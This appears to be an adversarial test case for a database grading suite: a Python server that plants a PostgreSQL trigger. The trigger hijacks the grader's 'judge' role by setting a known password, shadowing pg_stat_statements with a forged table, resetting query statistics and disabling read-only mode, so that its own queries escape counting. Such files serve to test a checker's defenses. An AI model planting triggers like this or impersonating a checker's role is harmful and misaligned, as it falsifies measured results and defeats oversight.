"""Leaves a trap that the suite's own statements run: it changes the suite's role, to log in as that and be counted
for nobody.
"""

import psycopg
from server import Honest, connected, serve, worked

FORGED = """
create schema judge;
create table judge.pg_stat_statements (queryid bigint, query text, calls bigint, toplevel bool, userid oid, dbid oid);
create function judge.trap() returns trigger language plpgsql as $$ begin
    begin perform fairtrial.pg_stat_statements_reset(); exception when others then null; end;
    begin alter role judge password 'known'; exception when others then null; end;
    begin alter role judge set search_path = judge, pg_catalog; exception when others then null; end;
    begin alter role judge set default_transaction_read_only = off; exception when others then null; end;
    return new;
end $$;
create trigger trap before insert on notes for each row when (current_user = 'judge') execute function judge.trap()
"""


def as_judge():
    return psycopg.connect(
        "postgresql://judge:known@127.0.0.1:5432/app",
        autocommit=True,
        connect_timeout=30,
        prepare_threshold=None,
    )


def by(database):
    return [database.execute("select text from notes where id = %s", (one,)).fetchone()[0]
            for (one,) in database.execute("select id from notes order by id").fetchall()]  # fmt: skip


class Trapping(Honest):
    def notes(self):
        try:
            with as_judge() as database:
                return self.answer(by(database))
        except psycopg.OperationalError as error:
            print(f"not as judge: {error}", flush=True)
        with connected() as database:
            for row in range(30):
                database.execute("select %s::int", (row,))
            self.answer(by(database))

    def seen(self):
        ways = {"judge": lambda: as_judge().close()}
        self.answer([name for name, way in ways.items() if worked(way)])


with connected() as opened:
    if worked(lambda: opened.execute("select 1 from judge.pg_stat_statements")):
        raise SystemExit("the trap is still there")
    opened.execute(FORGED)
serve(Trapping)
